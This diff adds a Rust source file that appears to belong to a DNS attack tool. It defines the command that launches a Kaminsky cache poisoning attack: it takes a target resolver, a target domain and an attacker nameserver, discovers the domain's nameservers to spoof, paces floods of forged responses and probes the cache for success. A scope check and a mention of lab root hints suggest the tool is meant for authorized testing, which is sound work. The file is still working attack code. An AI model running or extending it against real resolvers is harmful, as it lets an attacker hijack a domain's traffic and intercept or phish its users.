@@ -0,0 +1,214 @@
+use crate::commands::{
+    enforce_scope, run_attack, seconds, spoofed_sources, PayloadArgs, ScopeArgs, SubdomainArgs,
+};
+use crate::kaminsky;
+use crate::pacer;
+use crate::rng;
+use crate::verify;
+use std::net::Ipv4Addr;
+use std::time::Duration;
+use structopt::StructOpt;
+
+/// Runs a Kaminsky DNS cache poisoning attack
+#[derive(Debug, StructOpt)]
+pub struct AttackArgs {
+    /// IP address of the DNS server whose cache will be poisoned
+    #[structopt(long)]
+    target_addr: Ipv4Addr,
+
+    /// Domain to target, e.g. example.com
+    #[structopt(long)]
+    target_domain: String,
+
+    /// Nameserver to advertise as authoritative for the target domain
+    #[structopt(long)]
+    attacker_ns: String,
+
+    /// IP addresses to spoof responses from, these should be the IPs of the nameservers for the
+    /// target domain
+    ///
+    /// Can be left out if --discover or --root-hints is given.
+    #[structopt(long)]
+    spoofed_addrs: Vec<Ipv4Addr>,
+
+    /// Discover the target domain's nameservers and spoof responses from their addresses when no
+    /// spoofed addresses are given
+    ///
+    /// The NS records of the target domain, and of each of its parent domains, are looked up along
+    /// with the A and AAAA records of each nameserver and the delegation chain is printed.
+    #[structopt(long)]
+    discover: bool,
+
+    /// IP or hostname of the DNS server to use for discovering nameservers, defaults to the target
+    /// address
+    #[structopt(long)]
+    discovery_server: Option<String>,
+
+    /// Root hints file in the named.root format
+    ///
+    /// If neither spoofed addresses nor --discover are given, responses are spoofed from the IPv4
+    /// addresses of the root servers listed in these hints. Point this at the lab's own root hints.
+    #[structopt(long)]
+    root_hints: Option<String>,
+
+    /// How long to run the attack for in seconds
+    #[structopt(long)]
+    duration: Option<f32>,
+
+    /// Maximum number of attack rounds to run
+    ///
+    /// Each round sends a query for a fresh random subdomain of the target domain. If not
+    /// specified, rounds are run until the duration runs out.
+    #[structopt(long)]
+    rounds: Option<u32>,
+
+    /// How long to flood spoofed responses for in each round in seconds
+    #[structopt(long)]
+    round_window: Option<f32>,
+
+    /// How long to wait after sending the triggering query before flooding spoofed responses in
+    /// seconds, defaults to 0
+    ///
+    /// The latency subcommand suggests a delay and round window from the target server's measured
+    /// resolution times.
+    #[structopt(long)]
+    delay: Option<f32>,
+
+    /// UDP port to spoof responses from, defaults to 53
+    #[structopt(long)]
+    spoofed_port: Option<u16>,
+
+    /// UDP port the target server sends its queries from, spoofed responses are sent to this port,
+    /// defaults to 33333
+    #[structopt(long)]
+    target_port: Option<u16>,
+
+    /// IP address returned for the queried name in spoofed responses
+    #[structopt(long)]
+    answer_ip: Option<Ipv4Addr>,
+
+    #[structopt(flatten)]
+    payload: PayloadArgs,
+
+    #[structopt(flatten)]
+    subdomains: SubdomainArgs,
+
+    /// Maximum number of spoofed packets to send per second
+    ///
+    /// If not specified, spoofed packets are sent as fast as possible.
+    #[structopt(long)]
+    rate: Option<f64>,
+
+    /// Number of spoofed packets that can be sent back to back before the rate limit applies,
+    /// defaults to 1
+    #[structopt(long, requires("rate"))]
+    burst: Option<u32>,
+
+    /// How long to linearly ramp up to the packet rate over in seconds
+    #[structopt(long, requires("rate"))]
+    ramp_up: Option<f32>,
+
+    /// Packets per second to start the ramp up from, defaults to a tenth of the rate
+    #[structopt(long, requires("rate"))]
+    ramp_start_rate: Option<f64>,
+
+    /// When to probe the target server's cache for the target domain's nameservers
+    ///
+    /// Valid values are "never", "each-round", and "end". Probing after each round stops the attack
+    /// as soon as the attacker nameserver is found in the cache.
+    #[structopt(long, default_value = "never")]
+    probe: verify::ProbeSchedule,
+
+    /// Send probes with RD=0 so that they only read the target server's cache
+    #[structopt(long)]
+    probe_cache_only: bool,
+
+    /// Seed for the query IDs and random subdomains, so that a run can be replayed exactly
+    #[structopt(long)]
+    seed: Option<u64>,
+
+    #[structopt(flatten)]
+    scope: ScopeArgs,
+}
+
+impl AttackArgs {
+    pub fn run(&self) -> Result<(), String> {
+        let scope = self.scope.load()?;
+
+        let discovery_server = match (&self.discovery_server, self.discover) {
+            (_, false) => None,
+            (Some(server), true) => Some(server.clone()),
+            (None, true) => Some(self.target_addr.to_string()),
+        };
+        let mut rng = rng::new(self.seed);
+        let spoofed_addrs = spoofed_sources(
+            &self.spoofed_addrs,
+            &self.target_domain,
+            &discovery_server,
+            &self.root_hints,
+            &mut rng,
+        )?;
+
+        let mut addrs = spoofed_addrs.clone();
+        addrs.push(self.target_addr);
+        enforce_scope(&scope, &addrs, &self.target_domain)?;
+
+        let options = self.options(spoofed_addrs)?;
+        self.payload.check_sample(
+            &options.payload,
+            &options.subdomains,
+            &self.target_domain,
+            &self.attacker_ns,
+            &mut rng,
+        )?;
+
+        let stats = run_attack(&options)?;
+        println!("{}", stats.to_json());
+        return Ok(());
+    }
+
+    fn options(&self, spoofed_addrs: Vec<Ipv4Addr>) -> Result<kaminsky::AttackOptions, String> {
+        let mut options = kaminsky::AttackOptions::new(
+            self.attacker_ns.clone(),
+            self.target_domain.clone(),
+            self.target_addr,
+            spoofed_addrs,
+        );
+        if let Some(port) = self.spoofed_port {
+            options.spoofed_port = port;
+        }
+        if let Some(port) = self.target_port {
+            options.target_port = port;
+        }
+        options.rounds = self.rounds;
+        options.payload = self.payload.options(self.answer_ip);
+        options.pacing = self.pacing()?;
+        options.probe = self.probe;
+        options.probe_recursion_desired = !self.probe_cache_only;
+        options.subdomains = self.subdomains.options()?;
+        options.seed = self.seed;
+        if let Some(d) = self.duration {
+            options.duration = seconds("--duration", d)?;
+        }
+        if let Some(w) = self.round_window {
+            options.round_window = seconds("--round-window", w)?;
+        }
+        if let Some(d) = self.delay {
+            options.delay = seconds("--delay", d)?;
+        }
+        return Ok(options);
+    }
+
+    fn pacing(&self) -> Result<Option<pacer::PacerOptions>, String> {
+        let rate = match self.rate {
+            None => return Ok(None),
+            Some(rate) => rate,
+        };
+        let ramp_up = match self.ramp_up {
+            None => Duration::new(0, 0),
+            Some(ramp_up) => seconds("--ramp-up", ramp_up)?,
+        };
+        let options = pacer::PacerOptions::new(rate, self.burst, ramp_up, self.ramp_start_rate)?;
+        return Ok(Some(options));
+    }
+}